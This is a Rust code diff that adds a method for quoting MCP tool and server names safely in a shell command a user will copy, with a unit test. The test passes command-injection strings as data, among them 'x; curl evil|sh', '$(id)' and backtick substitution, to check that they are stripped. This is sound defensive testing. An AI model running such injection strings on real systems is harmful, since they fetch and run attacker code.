@@ -28,6 +28,18 @@ impl ToolRef {
         let name = name.strip_prefix("mcp__").unwrap_or(name);
         name.split_once("__").or_else(|| name.split_once('.')).or_else(|| name.split_once('/'))
     }
+
+    /// How to name it in a command that somebody will copy to a shell: a stranger wrote
+    /// the tool's name, so that one is left out, and only its server named, if a shell
+    /// could see more in it than a name.
+    pub fn in_a_command(&self) -> String {
+        let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.');
+        match (self.server.chars().all(plain), self.tool.chars().all(plain)) {
+            (true, true) => self.to_string(),
+            (true, false) => self.server.clone(),
+            (false, _) => format!("'{}'", self.server.replace('\'', r"'\''")),
+        }
+    }
 }
 
 /// Prints as `server__tool`, the spelling that `callMCPTool` takes. What cannot be
@@ -109,4 +121,19 @@ pub struct ToolCall {
     pub tool: ToolRef,
     /// Its arguments.
     pub arguments: Map<String, Value>,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::ToolRef;
+
+    #[test]
+    fn a_stranger_writes_nothing_into_a_command() {
+        let named = |server: &str, tool: &str| ToolRef::new(server, tool).in_a_command();
+        assert_eq!(named("git", "git_log-1.0"), "git__git_log-1.0");
+        for tool in ["x; curl evil|sh", "$(id)", "`id`", "a b", "x\u{200b}", "x\ny", "'"] {
+            assert_eq!(named("git", tool), "git");
+        }
+        assert_eq!(named("GitHub (it's mine)", "x"), r"'GitHub (it'\''s mine)'");
+    }
 }
